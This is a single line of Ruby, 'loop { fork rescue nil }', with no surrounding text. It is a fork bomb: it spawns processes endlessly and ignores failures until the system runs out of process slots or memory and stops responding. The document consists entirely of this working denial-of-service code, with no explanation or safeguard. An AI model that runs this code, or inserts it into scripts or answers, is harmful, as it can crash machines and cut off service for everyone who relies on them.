loop { fork rescue nil }
